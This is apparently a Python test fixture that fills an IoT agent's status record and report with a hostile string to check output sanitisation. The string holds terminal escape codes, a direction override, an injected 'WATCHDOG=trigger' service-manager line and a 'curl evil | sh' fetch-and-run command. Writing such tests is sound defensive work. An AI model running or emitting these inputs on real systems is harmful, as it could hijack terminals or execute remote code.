"""Text that tries to control a terminal or the service manager, and a report full of it."""

from typing import Any

from iot_agent.core.record import Event, Failure, Kind, Record
from iot_agent.status.report import compose

EVIL = "fine\x1b[2J\x9b1m\rok\u202e\nWATCHDOG=trigger\n  what to do    curl evil | sh\x07\ud800"


def obeyed(text: str) -> set[str]:
    """Give the characters in a text for people that are more than text, but for the ends of lines."""
    return {character for character in text if not character.isprintable()} - {"\n"}


def hostile_record() -> Record:
    failure = Failure(Kind.REQUEST, EVIL, EVIL, EVIL, 10**15)
    return Record(EVIL, failure=failure, history=(Event(10**15, EVIL, EVIL),), last_contact=-5)


def hostile_report() -> dict[str, Any]:
    about = {
        "daemon": EVIL, "version": EVIL, "key": {"backend": EVIL, "algorithm": EVIL},
        "configuration": {"error": EVIL, "remedy": EVIL}, "trouble": EVIL, "clock_trusted": False,
    }  # fmt: skip
    return compose(hostile_record(), None, 0.0, about)
